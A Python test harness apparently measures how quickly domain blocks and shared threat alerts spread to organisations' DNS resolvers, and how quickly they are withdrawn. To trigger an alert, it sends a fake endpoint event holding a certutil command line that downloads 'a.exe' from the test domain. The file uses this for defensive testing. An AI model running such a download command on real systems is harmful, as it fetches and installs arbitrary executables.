"""What is measured on a running sector: one block on its way, and its end; by people, and by written policy."""

import sqlite3
import time
from collections.abc import Callable, Iterable
from collections.abc import Set as AbstractSet
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime
from typing import Final

import httpx
import msgspec
from sender import Sender

from sector import resolvers
from sector.nodes import Node, Sector

PATIENCE: Final = 120.0
FIRST_PATIENCE: Final = 400.0
"""All processes may still be starting."""
_LOOK: Final = 0.05
_ADDED: Final = """
    SELECT max(object.added) FROM intel_indicatorvalue value
    JOIN intel_object object ON object.id = value.indicator_id WHERE value.value = ?
"""
_FETCH: Final = {
    "Image": r"C:\Windows\System32\certutil.exe",
    "CommandLine": "certutil.exe -urlcache -split -f http://{name}/a.exe a.exe",
}
_WRITTEN_WITHIN: Final = 1.3
"""The server of lists writes down at most once a second who read."""


@dataclass(slots=True, kw_only=True)
class Way:
    """How a block, or its end, came to everybody.

    Args:
        began_at: when the button was pressed, in seconds of the machine's clock.
        answered_at: when each control first answered so, by the code of its organisation.
        steps: for each node the moments that it recorded itself, by name.

    """

    began_at: float
    answered_at: dict[str, float]
    steps: dict[str, dict[str, float]] = field(default_factory=dict)

    @property
    def seconds(self) -> float:
        """Until the last control answered so."""
        return max(self.answered_at.values()) - self.began_at

    def only(self, codes: AbstractSet[str]) -> "Way":
        """The same, of some organisations alone."""
        return replace(self, answered_at={code: at for code, at in self.answered_at.items() if code in codes})


class People:
    """Those who press buttons, by the REST API over HTTPS."""

    def __init__(self, sector: Sector) -> None:
        self.sector = sector
        self._clients: dict[str, httpx.Client] = {}

    def __call__(self, who: str, method: str, path: str, **given: object) -> dict:
        """What the API answers somebody."""
        node = self.sector.first if who == "lead" else self.sector.nation
        if who not in self._clients:
            self._clients[who] = httpx.Client(
                base_url=f"{node.url}/api/v1",
                verify=False,  # noqa: S501 - the node's own certificate
                timeout=PATIENCE,
                headers={"Authorization": f"Bearer {self.sector.people[who]}"},
                trust_env=False,
            )
        answer = self._clients[who].request(method, path, **given)
        if answer.is_error:
            raise SystemExit(f"{method} {path}: {answer.status_code} {answer.text[:500]}")
        return answer.json()

    def close(self) -> None:
        """Hang up."""
        for client in self._clients.values():
            client.close()


def wait_for(what: Callable[[], object], *, within: float = PATIENCE) -> object:
    """What comes of asking again and again; whatever is not there yet may raise or be empty."""
    ends = time.monotonic() + within
    while True:
        with suppress(httpx.HTTPError, sqlite3.Error, OSError):
            if found := what():
                return found
        if time.monotonic() > ends:
            raise SystemExit("It did not come within the time that was given.")
        time.sleep(_LOOK)


def controls(nodes: Iterable[Node]) -> dict[str, int]:
    """The ports of the resolvers of some organisations."""
    return {node.code: node.resolver_port for node in nodes}


def by_people(sector: Sector, people: People, name: str, *, within: float = PATIENCE) -> dict[str, Way]:
    """A national block by two people: the canary group, all by the emergency button, and its end by the lift button.

    What is counted of each begins with the last person's press. Not counted: the check of harm that goes before, the
    hour with the canary group, and whatever people take to decide.
    """
    every = controls(sector.organisations)
    tried = controls(sector.canaries)
    resolvers.until(every, name, blocked=False, within=within)
    wanted = {"kind": "domain", "value": name, "why": "It spreads from here."}
    block = people("ada", "POST", "/blocks", json=wanted)["id"]
    wait_for(lambda: people("ada", "GET", f"/blocks/{block}")["checked_at"], within=within)
    people("ada", "POST", f"/blocks/{block}/decide", json={"step": "agree", "why": "Seen."})
    decide = f"/blocks/{block}/decide"
    agree, hurry = {"step": "agree", "why": "Seen."}, {"step": "emergency", "why": "It spreads."}
    watched = {
        "tried": Watched(name=name, ports=tried, blocked=True, within=within),
        "people": Watched(name=name, ports=every, blocked=True, within=within),
        "people, withdrawn": Watched(name=name, ports=every, blocked=False, within=within),
    }
    presses = {
        "tried": lambda: people("ben", "POST", decide, json=agree),
        "people": lambda: people("ben", "POST", decide, json=hurry),
        "people, withdrawn": lambda: people("ada", "POST", f"/blocks/{block}/lift", json={"why": "A mistake."}),
    }
    return {way: pressed(sector, press, watched[way]) for way, press in presses.items()}


def by_policy(sector: Sector, people: People, sender: Sender, name: str, *, within: float = PATIENCE) -> dict[str, Way]:
    """An attack that one organisation sees and shares, and that all others block by their policies; and its end.

    An event comes to the first organisation's gateway and raises an alert. What is counted begins when its cyber lead
    presses the button that shares the alert, and of its end, when they press the one that withdraws it.
    """
    every = controls(sector.organisations)
    resolvers.until(every, name, blocked=False, within=within)
    device = f"WS-{time.time_ns() % 10**9}"  # no part of the name, which would then not go: it would tell of a computer
    sender.send(device, Image=_FETCH["Image"], CommandLine=_FETCH["CommandLine"].format(name=name))
    alerts = wait_for(lambda: people("lead", "GET", "/alerts", params={"device": device})["items"], within=within)
    share = f"/alerts/{alerts[0]['id']}/share"
    (collection,) = (one["id"] for one in people("lead", "GET", share)["collections"])

    def withdraw() -> None:
        (shared,) = people("lead", "GET", f"{share}s")
        people("lead", "POST", f"{share}s/{shared['id']}/withdraw")

    presses = {
        "policy": lambda: people("lead", "POST", share, json={"collection": collection, "level": "green"}),
        "policy, withdrawn": withdraw,
    }
    return {
        way: pressed(sector, press, Watched(name=name, ports=every, blocked=way == "policy", within=within))
        for way, press in presses.items()
    }


@dataclass(frozen=True, slots=True, kw_only=True)
class Watched:
    """What is waited for after a button.

    Args:
        name: the name that resolvers are asked for.
        ports: the resolvers, by the codes of their organisations.
        blocked: whether they come to refuse it, or to answer it.
        within: seconds after which it is given up.

    """

    name: str
    ports: dict[str, int]
    blocked: bool
    within: float = PATIENCE


def pressed(sector: Sector, press: Callable[[], object], watched: Watched) -> Way:
    """Press a button, and watch what controls answer from then on."""
    began = time.time()
    with ThreadPoolExecutor(1) as pool:
        button = pool.submit(press)
        answered = resolvers.until(
            watched.ports,
            watched.name,
            blocked=watched.blocked,
            within=watched.within,
            given_up=lambda: button.done() and button.exception() is not None,
        )
        button.result()
    time.sleep(_WRITTEN_WITHIN)
    steps = {node.code: recorded(node, watched.name) for node in sector.nodes.values()}
    return Way(began_at=began, answered_at=answered, steps=steps)


def recorded(node: Node, name: str) -> dict[str, float]:
    """When what was decided last about a name came to a node, as the node itself recorded it."""
    found: dict[str, float] = {}
    ((added,),) = node.rows(_ADDED, name)
    if added:
        found["shared"] = added / 1e6
    rows = node.rows("SELECT changed_at, checked_at FROM protect_block WHERE value = ? ORDER BY changed_at", name)
    if rows:
        found["stored"] = _moment(rows[-1][0])
        if rows[-1][1]:
            found["checked"] = _moment(rows[-1][1])
    lists = node.home / "lists"
    with suppress(OSError, msgspec.MsgspecError, KeyError):
        journal = msgspec.json.decode((lists / "current.json").read_bytes())["journal"]
        found["published"] = (lists / journal).stat().st_mtime
    with suppress(OSError, msgspec.MsgspecError, KeyError, StopIteration):
        told = msgspec.json.decode((lists / "seen.json").read_bytes())
        found["transferred"] = _moment(next(iter(told["controls"].values()))["reads"]["zone"]["at"])
    return found


def _moment(text: str) -> float:
    """A moment as databases and JSON write it."""
    said = datetime.fromisoformat(text)
    return said.timestamp() if said.tzinfo else said.replace(tzinfo=UTC).timestamp()


def ready(sector: Sector, people: People, sender: Sender | None = None) -> None:
    """Wait until every node does its work: a block comes to all and goes again, and so does what is shared."""
    wait_for(lambda: people("ada", "GET", "/blocks"), within=FIRST_PATIENCE)
    by_people(sector, people, f"ready{time.time_ns()}.example", within=FIRST_PATIENCE)
    if sender is not None:
        sender.until_ready()
        by_policy(sector, people, sender, f"seen{time.time_ns()}.example", within=FIRST_PATIENCE)
